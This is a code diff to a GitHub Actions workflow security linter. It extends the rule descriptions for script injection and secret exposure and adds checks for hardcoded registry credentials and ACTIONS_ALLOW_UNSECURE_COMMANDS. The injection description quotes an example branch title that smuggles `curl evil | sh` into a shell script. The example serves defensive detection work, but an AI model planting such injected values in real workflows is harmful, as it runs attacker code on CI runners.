@@ -49,7 +49,8 @@ func Rules() []RuleInfo {
 			Description: "A run: script, or an input that an action runs as code (actions/github-script's script, azure/cli's " +
 				"inlineScript, yq's cmd, a local composite action's input that reaches its run:), interpolates ${{ }} " +
 				"values an outsider controls: issue and pull request titles and bodies, comment bodies, branch names, " +
-				"commit messages, env variables set from them. In a reusable workflow or composite action, the caller's " +
+				"commit messages, env variables set from them, outputs of actions that echo pull-request file or branch names. " +
+				"ACTIONS_ALLOW_UNSECURE_COMMANDS is reported too: it lets any printed text set environment variables. In a reusable workflow or composite action, the caller's " +
 				"inputs count too (medium severity). Comparisons and predicates such as contains() yield true or false " +
 				"and are not reported. The value is pasted into the " +
 				"script before the shell runs, so a title like `a\"; curl evil | sh; \"` executes. Pass the value " +
@@ -57,7 +58,7 @@ func Rules() []RuleInfo {
 		{ID: RuleSecretExposure, Title: "Secret echoed or passed to an untrusted step",
 			Description: "A secret is printed by a run: step (log masking is best effort and fails on transformed values), encoded " +
 				"on its way to the log, derived with fromJSON() (the masker only knows the whole value), over-provisioned " +
-				"with toJSON(secrets) or secrets[computed name], passed " +
+				"with toJSON(secrets) or secrets[computed name], written as a literal registry password in container credentials, passed " +
 				"to a third-party action that is not pinned to a commit, or inherited by a reusable workflow from " +
 				"another repository that is not pinned. Keep secrets out of logs and give them only to pinned, " +
 				"reviewed code.", Severity: threatmap.High},
@@ -98,6 +99,8 @@ var checks = []check{
 	checkSelfHostedRunner,
 	checkUnpinnedImages,
 	checkSecretOverexposure,
+	checkHardcodedCredentials,
+	checkInsecureCommands,
 }
 
 // finding builds a finding at a node's position.
